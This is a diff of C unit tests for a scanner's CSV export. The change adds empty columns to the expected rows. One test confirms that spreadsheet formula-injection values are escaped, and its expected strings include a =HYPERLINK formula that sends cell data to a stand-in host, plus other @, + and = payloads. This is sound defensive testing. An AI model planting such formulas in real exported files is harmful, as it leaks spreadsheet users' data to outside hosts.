@@ -239,7 +239,7 @@ START_TEST(test_csv)
 	r = fx_scan();
 	s = fx_render("csv", r, NULL);
 	ck_assert_ptr_nonnull(
-	        strstr(s, "\n198.18.0.2,,,,udp,53,open,udp-response,0,0,dns,,,,,,\n"));
+	        strstr(s, "\n198.18.0.2,,,,udp,53,open,udp-response,0,0,dns,,,,,,,,\n"));
 	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 4);
 	free(s);
 	pp_result_free(r);
@@ -269,7 +269,7 @@ START_TEST(test_csv_formulas)
 	s = fx_render("csv", r, NULL);
 	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,open,udp-response,"
 	                                "1234,0,\"'+sip\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,"
-	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\"\n"));
+	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\",,\n"));
 	/* Numbers and the text of an ordinary row are untouched. */
 	ck_assert_ptr_nonnull(
 	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,open,syn-ack,222,64,,,,,,,\n"));
